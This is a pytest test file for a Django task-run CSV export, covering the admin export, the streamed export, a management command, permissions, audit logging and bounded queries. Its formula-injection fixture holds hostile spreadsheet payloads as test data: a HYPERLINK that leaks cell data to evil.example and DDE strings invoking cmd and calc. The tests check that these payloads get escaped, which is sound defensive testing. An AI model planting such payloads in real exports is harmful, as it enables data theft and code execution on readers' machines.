"""Exporting run history: the shared columns, the admin export, the stream and the command."""

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from django.contrib.admin.models import LogEntry
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from import_export.formats.base_formats import CSV

from gyrinx_tasks.admin.exports import ExecutionExportMixin
from gyrinx_tasks.export import (
    COLUMNS,
    ROWS_PER_WRITE,
    TaskExecutionPayloadResource,
    TaskExecutionResource,
    headers,
    stream_csv,
)
from gyrinx_tasks.models import State, TaskExecution, Trigger
from tests.helpers import export_form, make_run, parse_csv, staff_user

pytestmark = [pytest.mark.django_db, pytest.mark.clock]

CHANGELIST = "admin:gyrinx_tasks_taskexecution_changelist"
EXPORT = "admin:gyrinx_tasks_taskexecution_export"
STREAM = "admin:gyrinx_tasks_taskexecution_export_stream"
STREAM_PAYLOAD = "admin:gyrinx_tasks_taskexecution_export_stream_payload"
BASE = datetime(2026, 11, 1, 9, 0, tzinfo=UTC)
PAYLOAD = ["args", "kwargs", "return_value"]


def at(minutes):
    return BASE + timedelta(minutes=minutes)


def streamed(queryset, include_payload=False):
    return "".join(stream_csv(queryset, include_payload))


def body(response):
    return b"".join(response.streaming_content).decode() if response.streaming else (
        response.content.decode())


@pytest.fixture
def history():
    """A failed run (two attempts), its retry, a success with a payload, a fresh READY run."""
    failed = make_run(
        # gave_up: retried by staff, which settles it (a FAILED run that will still be
        # redelivered exports as WILL_RETRY: tests/test_will_retry.py).
        "explode", State.FAILED, message_id="1001", attempts=2, gave_up=True, created_at=at(0),
        enqueued_at=at(0), started_at=at(1), finished_at=at(1) + timedelta(seconds=2.5),
        args=["boom"], kwargs={"email": "someone@example.com"},
        errors=[{"exception_class_path": "builtins.ValueError", "traceback": "first"},
                {"exception_class_path": "builtins.RuntimeError", "traceback": "second"}],
    )
    retry = make_run("explode", State.SUCCESSFUL, trigger=Trigger.RETRY, retry_of=failed,
                     created_at=at(10), started_at=at(10), finished_at=at(10),
                     return_value={"ok": True}, attempts=1)
    success = make_run("add", State.SUCCESSFUL, created_at=at(20), args=[1, 2],
                       return_value=3, started_at=at(20),
                       finished_at=at(20) + timedelta(milliseconds=40))
    ready = make_run("echo", State.READY, created_at=at(30), kwargs={"key": "k"})
    return {"failed": failed, "retry": retry, "success": success, "ready": ready}


# --- Columns -----------------------------------------------------------------------------

def test_columns_and_values(history):
    rows = {row["result_id"]: row for row in parse_csv(streamed(TaskExecution.objects.all()))}
    failed = rows[history["failed"].result_id]
    assert failed == {
        "result_id": history["failed"].result_id,
        "task_id": history["failed"].task_id,
        "message_id": "1001",
        "task_name": "explode",
        "status": "FAILED",
        "trigger": "enqueue",
        "attempts": "2",
        "created_at": "2026-11-01T09:00:00+00:00",
        "enqueued_at": "2026-11-01T09:00:00+00:00",
        "started_at": "2026-11-01T09:01:00+00:00",
        "finished_at": "2026-11-01T09:01:02.500000+00:00",
        "duration_seconds": "2.500",
        "retry_of": "",
        # The last of the errors, not the first.
        "last_error_class": "builtins.RuntimeError",
    }
    retry = rows[history["retry"].result_id]
    assert retry["retry_of"] == history["failed"].result_id
    assert retry["trigger"] == "retry"
    assert retry["last_error_class"] == ""
    assert retry["duration_seconds"] == "0.000"
    assert rows[history["success"].result_id]["duration_seconds"] == "0.040"
    ready = rows[history["ready"].result_id]
    # Empty, not "None", where there is no value.
    assert [ready[name] for name in ("message_id", "started_at", "finished_at",
                                     "duration_seconds", "retry_of")] == [""] * 5


def test_payload_columns_only_when_asked_for(history):
    plain = streamed(TaskExecution.objects.all())
    assert list(parse_csv(plain)[0]) == headers()
    assert not set(PAYLOAD) & set(headers())
    assert "someone@example.com" not in plain

    rows = {row["result_id"]: row for row in parse_csv(
        streamed(TaskExecution.objects.all(), include_payload=True))}
    assert headers(include_payload=True) == headers() + PAYLOAD
    failed = rows[history["failed"].result_id]
    assert failed["args"] == '["boom"]'
    assert failed["kwargs"] == '{"email": "someone@example.com"}'
    assert failed["return_value"] == ""
    assert rows[history["success"].result_id]["return_value"] == "3"
    assert rows[history["retry"].result_id]["return_value"] == '{"ok": true}'


def test_rows_come_newest_first_in_the_querysets_order(history):
    ids = [row["result_id"] for row in parse_csv(streamed(TaskExecution.objects.all()))]
    assert ids == [history[name].result_id for name in ("ready", "success", "retry", "failed")]


def test_one_column_definition_behind_every_exporter():
    names = [column.name for column in COLUMNS]
    assert TaskExecutionResource().get_export_headers() == [n for n in names
                                                            if n not in PAYLOAD]
    assert TaskExecutionPayloadResource().get_export_headers() == names


def test_the_stream_reads_only_its_columns_and_no_model_instances(history):
    with CaptureQueriesContext(connection) as captured:
        text = streamed(TaskExecution.objects.all())
    assert len(parse_csv(text)) == 4
    sql = " ".join(query["sql"] for query in captured.captured_queries)
    # The tracebacks are in "errors": only the last class path is read out of it.
    for heavy in ('"timeline"', '"raw_message"', '"worker_ids"', '"status_detail"'):
        assert heavy not in sql


def test_the_stream_hands_out_the_csv_in_pieces():
    TaskExecution.objects.bulk_create(
        TaskExecution(task_name="add", created_at=at(i)) for i in range(ROWS_PER_WRITE * 2 + 7))
    stream = stream_csv(TaskExecution.objects.all())
    pieces = []
    while True:
        try:
            pieces.append(next(stream))
        except StopIteration as done:
            count = done.value
            break
    assert count == ROWS_PER_WRITE * 2 + 7
    # Header + 500 rows, 500 rows, the last 7: never the whole file in one string.
    assert [piece.count("\n") for piece in pieces] == [ROWS_PER_WRITE + 1, ROWS_PER_WRITE, 7]


@pytest.mark.parametrize("resource", [TaskExecutionResource, TaskExecutionPayloadResource])
def test_streaming_output_equals_the_resources_export(history, resource):
    queryset = TaskExecution.objects.filter(status__in=[State.FAILED, State.SUCCESSFUL])
    dataset = resource().export(queryset)
    assert len(dataset) == 3
    assert CSV().export_data(dataset) == streamed(queryset, resource.include_payload)


# --- The admin's import-export export -----------------------------------------------------

def exporter(client, *codenames):
    user = staff_user("exporter", *codenames)
    client.force_login(user)
    return user


def test_export_needs_the_export_permission(client, history):
    exporter(client, "view_taskexecution")
    changelist = client.get(reverse(CHANGELIST)).content.decode()
    assert 'class="export_link"' not in changelist and "Stream CSV" not in changelist
    assert client.get(reverse(EXPORT)).status_code == 403
    assert client.post(reverse(EXPORT), export_form()).status_code == 403
    assert client.get(reverse(STREAM)).status_code == 403
    assert client.post(reverse(STREAM)).status_code == 403
    assert client.post(reverse(STREAM_PAYLOAD)).status_code == 403
    assert not LogEntry.objects.exists()


def test_export_permission_alone_does_not_open_the_runs(client, history):
    exporter(client, "export_taskexecution")
    assert client.get(reverse(EXPORT)).status_code == 403
    assert client.post(reverse(EXPORT), export_form()).status_code == 403
    assert client.post(reverse(STREAM)).status_code == 403
    assert not LogEntry.objects.exists()


def test_changelist_links_carry_the_filters(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    page = client.get(reverse(CHANGELIST), {"status": "FAILED"}).content.decode()
    assert f'href="{reverse(EXPORT)}?status=FAILED" class="export_link"' in page
    assert f'href="{reverse(EXPORT)}?status=FAILED#gyrinx-stream"' in page


def test_export_page_states_the_filters_and_picks_csv(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    response = client.get(reverse(EXPORT), {"status": "FAILED", "q": "abc"})
    assert response.status_code == 200
    page = response.content.decode()
    assert "filters: status=FAILED, search &#x27;abc&#x27;" in page
    assert '<option value="0" selected>csv</option>' in page
    assert "so it takes at most 100,000 runs" in page
    assert f'<form method="post" action="{reverse(STREAM)}?status=FAILED&amp;q=abc">' in page
    assert (f'<form method="post" action="{reverse(STREAM_PAYLOAD)}?status=FAILED&amp;q=abc">'
            in page)


def test_export_honours_filters_and_writes_a_log_entry(client, history):
    user = exporter(client, "view_taskexecution", "export_taskexecution")
    response = client.post(f"{reverse(EXPORT)}?task_name=explode", export_form())
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="task-executions-')
    rows = parse_csv(response.content.decode())
    assert {row["result_id"] for row in rows} == {history["failed"].result_id,
                                                  history["retry"].result_id}
    assert list(rows[0]) == headers()

    entry = LogEntry.objects.get()
    assert entry.user == user
    assert entry.content_type.model_class() is TaskExecution
    assert "Exported 2 runs as CSV (without payload" in entry.change_message
    assert "filters: task_name=explode" in entry.change_message


def test_export_honours_the_search(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    target = history["success"]
    response = client.post(f"{reverse(EXPORT)}?q={target.result_id}", export_form())
    assert [row["result_id"] for row in parse_csv(response.content.decode())] == [target.result_id]
    assert f"search '{target.result_id}'" in LogEntry.objects.get().change_message


def test_export_of_chosen_columns_with_payload(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    response = client.post(f"{reverse(EXPORT)}?status=READY",
                           export_form(resource=1, columns=["result_id", "kwargs"]))
    assert parse_csv(response.content.decode()) == [
        {"result_id": history["ready"].result_id, "kwargs": '{"key": "k"}'}]
    message = LogEntry.objects.get().change_message
    assert "with args, kwargs and return value; columns: result_id, kwargs" in message


def test_export_through_our_changelist_reads_once_without_heavy_columns(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    with CaptureQueriesContext(connection) as captured:
        response = client.post(f"{reverse(EXPORT)}?status=FAILED", export_form())
    assert len(parse_csv(response.content.decode())) == 1
    runs = [q["sql"] for q in captured.captured_queries
            if 'FROM "gyrinx_tasks_taskexecution"' in q["sql"]]
    # The size check counts at most export_max_rows + 1 rows, then one read of the rows: no
    # paginator count or estimate, no per-row queries.
    assert len(runs) == 2, runs
    count, read = runs
    limit = ExecutionExportMixin.export_max_rows + 1
    assert "COUNT(" in count.upper() and f"LIMIT {limit}" in count
    assert "COUNT(" not in read.upper()
    assert "reltuples" not in " ".join(q["sql"] for q in captured.captured_queries)
    assert '"timeline"' not in read and '"raw_message"' not in read
    assert "FAILED" in read  # the filter is applied in SQL


def test_export_refuses_more_rows_than_it_builds_in_memory(client, history, monkeypatch):
    exporter(client, "view_taskexecution", "export_taskexecution")
    monkeypatch.setattr(ExecutionExportMixin, "export_max_rows", 2)
    refused = client.post(reverse(EXPORT), export_form())  # 4 runs
    assert refused.status_code == 200
    assert refused["Content-Type"].startswith("text/html")
    assert "These filters match more than 2 runs" in refused.content.decode()
    assert not LogEntry.objects.exists()
    # At the limit it exports; the stream has no limit.
    allowed = client.post(f"{reverse(EXPORT)}?task_name=explode", export_form())
    assert len(parse_csv(allowed.content.decode())) == 2
    assert len(parse_csv(body(client.post(reverse(STREAM))))) == 4


def test_export_with_unknown_filters_explains_instead_of_failing(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    for url, method in ((reverse(EXPORT), client.get), (reverse(STREAM), client.post)):
        response = method(f"{url}?no_such_field=1", follow=True)
        assert response.redirect_chain[0] == (reverse(CHANGELIST), 302)
        assert "choose the filters there" in response.content.decode()
    assert not LogEntry.objects.exists()


def test_superuser_sees_and_uses_the_export(admin_client, history):
    page = admin_client.get(reverse(CHANGELIST)).content.decode()
    assert 'class="export_link"' in page and "Stream CSV" in page
    assert admin_client.post(reverse(EXPORT), export_form()).status_code == 200


# --- The admin's stream --------------------------------------------------------------------

def test_stream_honours_filters_and_logs_the_row_count(client, history):
    user = exporter(client, "view_taskexecution", "export_taskexecution")
    response = client.post(f"{reverse(STREAM)}?status=SUCCESSFUL")
    assert response.status_code == 200 and response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    entry = LogEntry.objects.get()
    assert entry.user == user
    assert entry.change_message.startswith("Started a streamed CSV export")

    text = body(response)
    assert {row["result_id"] for row in parse_csv(text)} == {history["retry"].result_id,
                                                         history["success"].result_id}
    assert "return_value" not in text.splitlines()[0]
    entry.refresh_from_db()
    assert entry.change_message == ("Completed a streamed CSV export of runs (without payload; "
                                    "filters: status=SUCCESSFUL); 2 rows.")


def test_stream_with_payload(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    response = client.post(f"{reverse(STREAM_PAYLOAD)}?q={history['failed'].result_id}")
    rows = parse_csv(body(response))
    assert [row["kwargs"] for row in rows] == ['{"email": "someone@example.com"}']
    assert "with args, kwargs and return value" in LogEntry.objects.get().change_message


def test_stream_equals_the_admin_export_for_the_same_filter(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    exported = client.post(f"{reverse(EXPORT)}?trigger=enqueue", export_form()).content
    assert body(client.post(f"{reverse(STREAM)}?trigger=enqueue")) == exported.decode()


def test_the_mixin_is_on_the_run_admin():
    from django.contrib import admin

    assert isinstance(admin.site._registry[TaskExecution], ExecutionExportMixin)


# --- manage.py tasks_export ------------------------------------------------------------

def run_command(*args):
    out, err = io.StringIO(), io.StringIO()
    call_command("tasks_export", *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_command_writes_every_run_to_stdout(history):
    out, err = run_command()
    assert out == streamed(TaskExecution.objects.all())
    assert len(parse_csv(out)) == 4
    assert err.strip() == "Wrote 4 runs to standard output."


def test_command_filters(history):
    def ids(*args):
        return {row["result_id"] for row in parse_csv(run_command(*args)[0])}

    assert ids("--status", "failed") == {history["failed"].result_id}
    assert ids("--status", "FAILED", "--status", "READY") == {history["failed"].result_id,
                                                              history["ready"].result_id}
    assert ids("--task", "add", "--task", "echo") == {history["success"].result_id,
                                                     history["ready"].result_id}
    assert ids("--since", "2026-11-01T09:10:00+00:00") == {
        history[name].result_id for name in ("retry", "success", "ready")}
    # --until is exclusive; a naive time is in TIME_ZONE (UTC in the tests).
    assert ids("--until", "2026-11-01T09:20") == {history["failed"].result_id,
                                                  history["retry"].result_id}
    assert ids("--since", "2026-11-01", "--until", "2026-11-02", "--status", "SUCCESSFUL",
               "--task", "explode") == {history["retry"].result_id}
    assert ids("--since", "2026-11-02") == set()


def test_command_writes_a_file_with_payload(history, tmp_path):
    target = tmp_path / "runs.csv"
    out, err = run_command("--output", str(target), "--include-payload", "--status", "READY")
    assert out == ""
    assert err.strip() == f"Wrote 1 run to {target}."
    with open(target, newline="", encoding="utf-8") as file:
        text = file.read()
    assert text.startswith(",".join(headers(include_payload=True)) + "\r\n")
    assert parse_csv(text)[0]["kwargs"] == '{"key": "k"}'
    assert not (tmp_path / "runs.csv.part").exists()


@pytest.mark.parametrize(("args", "message"), [
    (["--status", "BROKEN"], "Unknown status BROKEN; use one of READY, RUNNING"),
    (["--since", "yesterday"], "--since 'yesterday' is not a date or time; give an ISO date"),
    (["--since", "2026-11-02", "--until", "2026-11-01"], "--since must be earlier than --until"),
    # An empty range is a mistake too, not an empty file.
    (["--since", "2026-11-01", "--until", "2026-11-01"], "--since must be earlier than --until"),
    (["--output", "/no/such/dir/runs.csv"], "The directory /no/such/dir does not exist"),
])
def test_command_explains_bad_options(history, args, message):
    with pytest.raises(CommandError, match=message.replace("(", r"\(")):
        run_command(*args)


# --- In a browser ----------------------------------------------------------------------------

@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_browser_exports_a_filtered_list_as_csv(admin_page, live_server):
    from tests.infra.browser import save_screenshot

    page = admin_page
    failed = [make_run("explode", State.FAILED, created_at=at(i), started_at=at(i),
                       finished_at=at(i) + timedelta(seconds=1), attempts=1,
                       errors=[{"exception_class_path": "builtins.RuntimeError"}])
              for i in range(3)]
    for i in range(4):
        make_run("add", State.SUCCESSFUL, created_at=at(10 + i))

    page.goto(f"{live_server.url}{reverse(CHANGELIST)}")
    page.locator("#changelist-filter").get_by_role("link", name="Failed").click()
    page.wait_for_url("**/?status=FAILED")
    page.get_by_role("link", name="Export", exact=True).click()
    page.wait_for_url(f"**{reverse(EXPORT)}?status=FAILED")
    assert "filters: status=FAILED" in page.locator(".gyrinx-export-scope").inner_text()
    # CSV is already chosen: exporting is one click.
    assert page.locator("#id_format option:checked").inner_text() == "csv"
    save_screenshot(page, "export")
    save_screenshot(page, "export", dark=True)

    with page.expect_download() as download:
        page.get_by_role("button", name="Submit").click()
    assert download.value.suggested_filename.startswith("task-executions-")
    with open(download.value.path(), encoding="utf-8", newline="") as file:
        rows = parse_csv(file.read())
    assert [row["result_id"] for row in rows] == [run.result_id for run in reversed(failed)]
    assert {row["last_error_class"] for row in rows} == {"builtins.RuntimeError"}

    # The stream button on the same page carries the same filter (it posts).
    with page.expect_download() as download:
        page.get_by_role("button", name="Stream CSV", exact=True).click()
    with open(download.value.path(), encoding="utf-8", newline="") as file:
        assert [row["result_id"] for row in parse_csv(file.read())] == [
            run.result_id for run in reversed(failed)]
    messages = sorted(LogEntry.objects.values_list("change_message", flat=True))
    assert messages[0].startswith("Completed a streamed CSV export of runs (without payload; "
                                  "filters: status=FAILED); 3 rows.")
    assert messages[1].startswith("Exported 3 runs as CSV")


# --- Spreadsheet formula injection (issue 17, item 10) ---------------------------------------
# Before: cells were written as stored, so a task name, task id or message id taken from a
# Pub/Sub message (or a negative result) reached the spreadsheet as a formula.

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_runs():
    """Runs whose every text column that a message controls starts like a formula."""
    hostile = make_run(
        '=HYPERLINK("http://evil.example/?"&A1,"Open")', State.FAILED,
        task_id="+1+cmd|' /C calc'!A0", message_id="@SUM(1+1)*cmd|' /C calc'!A0",
        attempts=1, created_at=at(0),
        errors=[{"exception_class_path": "-2+3+cmd|' /C calc'!A0"}],
        args=["=1+1"], kwargs={"k": "=1+1"})
    retry = make_run("add", State.SUCCESSFUL, trigger=Trigger.RETRY, retry_of=hostile,
                     created_at=at(1), return_value=-5, args=[-1, -4])
    # Tab and CR first, too (Excel drops them and reads the rest).
    make_run("\t=1+2", State.READY, task_id="\r=1+3", created_at=at(2))
    return hostile, retry


def assert_no_formula(rows):
    cells = [cell for row in rows for cell in row]
    assert cells, "nothing was exported"
    formulas = [cell for cell in cells if str(cell).startswith(FORMULA_STARTS)]
    assert formulas == []
    return cells


def test_no_export_writes_a_cell_a_spreadsheet_would_evaluate(admin_client, hostile_runs):
    hostile, retry = hostile_runs
    exported = admin_client.post(reverse(EXPORT), export_form(resource=1)).content.decode()
    streamed_text = body(admin_client.post(reverse(STREAM_PAYLOAD)))
    command = run_command("--include-payload", "--include-redacted")[0]
    for text in (exported, streamed_text, command):
        rows = list(csv.reader(io.StringIO(text)))
        cells = assert_no_formula(rows)
        # Escaped, not dropped: the value is still there after the apostrophe.
        assert """'=HYPERLINK("http://evil.example/?"&A1,"Open")""" in cells
        assert "'+1+cmd|' /C calc'!A0" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
        assert "'-2+3+cmd|' /C calc'!A0" in cells  # last_error_class
        assert "'-5" in cells  # a negative return value
        assert "'\t=1+2" in cells and "'\r=1+3" in cells
        by_id = {row[0]: row for row in rows[1:]}
        assert by_id[retry.result_id][headers().index("retry_of")] == hostile.result_id


def test_every_import_export_format_gets_escaped_cells(hostile_runs):
    # The widget escapes, so every tablib format (XLSX, ODS, JSON...) gets the same cells.
    queryset = TaskExecution.objects.all()
    for resource in (TaskExecutionResource(), TaskExecutionPayloadResource(reveal_redacted=True)):
        assert_no_formula(resource.export(queryset))


# --- Bounded work: export_items (issue 17, item 12) ------------------------------------------
# Before: a POST naming runs in export_items made import-export read every pk in the table as
# the field's choices and scan them once per value (seconds at 20k runs, minutes at 1M).

def unfiltered_id_reads(captured):
    """Queries that read the run table without a WHERE: a read of the whole table."""
    return [q["sql"] for q in captured.captured_queries
            if 'FROM "gyrinx_tasks_taskexecution"' in q["sql"] and "WHERE" not in q["sql"]]


def test_export_items_reads_only_the_named_runs(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    named = [history["failed"].pk, history["ready"].pk]
    with CaptureQueriesContext(connection) as captured:
        response = client.post(reverse(EXPORT), {**export_form(), "export_items": named})
    assert response.status_code == 200
    assert {row["result_id"] for row in parse_csv(response.content.decode())} == {
        history["failed"].result_id, history["ready"].result_id}
    assert unfiltered_id_reads(captured) == []
    assert "Exported 2 runs" in LogEntry.objects.get().change_message


@pytest.mark.parametrize("items, sentence", [
    ([str(n) for n in range(1, 202)], "at most 200 runs by id, and this one names 201"),
    (["1", "x"], "export_items must be run ids"),
    (["1e400"], "export_items must be run ids"),
    (["\u00b2"], "export_items must be run ids"),  # a digit to isdigit(), not to int()
    (["9" * 5000], "export_items must be run ids"),
])
def test_export_items_beyond_the_bound_is_a_400_with_a_sentence(client, history, items,
                                                                 sentence):
    exporter(client, "view_taskexecution", "export_taskexecution")
    with CaptureQueriesContext(connection) as captured:
        response = client.post(reverse(EXPORT), {**export_form(), "export_items": items})
    assert response.status_code == 400
    assert sentence in response.content.decode()
    assert not [q for q in captured.captured_queries
                if 'FROM "gyrinx_tasks_taskexecution"' in q["sql"]]
    assert not LogEntry.objects.exists()


def test_export_items_of_exactly_the_bound_are_exported(client, history):
    exporter(client, "view_taskexecution", "export_taskexecution")
    named = [history["failed"].pk] * 199 + [history["ready"].pk]  # 200 ids
    response = client.post(reverse(EXPORT), {**export_form(), "export_items": named})
    assert response.status_code == 200
    assert {row["result_id"] for row in parse_csv(response.content.decode())} == {
        history["failed"].result_id, history["ready"].result_id}


def test_export_items_still_needs_the_export_permission(client, history):
    exporter(client, "view_taskexecution")
    response = client.post(reverse(EXPORT), {**export_form(), "export_items": ["1"] * 500})
    assert response.status_code == 403


# --- Nothing changes on GET (issue 17, item 13) ----------------------------------------------
# Before: a GET of the stream (a link or an <img> on any site, followed by a logged-in staff
# member's browser) exported the runs, payload included, and wrote the audit entry.

@pytest.mark.parametrize("stream", [STREAM, STREAM_PAYLOAD])
def test_a_get_of_the_stream_exports_nothing_and_writes_nothing(client, history, stream):
    exporter(client, "view_taskexecution", "export_taskexecution")
    response = client.get(reverse(stream), {"status": "FAILED"})
    assert response.status_code == 302 and not response.streaming
    # To the export page, whose buttons post, with the same filters.
    assert response.url == f"{reverse(EXPORT)}?status=FAILED#gyrinx-stream"
    assert "someone@example.com" not in response.content.decode()
    assert not LogEntry.objects.exists()


def test_a_cross_site_post_of_the_stream_is_refused(history):
    from django.test import Client

    user = staff_user("exporter", "view_taskexecution", "export_taskexecution")
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)
    assert browser.post(reverse(STREAM_PAYLOAD)).status_code == 403  # no CSRF token
    assert not LogEntry.objects.exists()
    # The export page's own form carries the token, and works.
    page = browser.get(reverse(EXPORT)).content.decode()
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page).group(1)
    response = browser.post(reverse(STREAM_PAYLOAD), {"csrfmiddlewaretoken": token})
    assert response.status_code == 200 and len(parse_csv(body(response))) == 4
    assert LogEntry.objects.get().change_message.startswith("Completed a streamed CSV export")
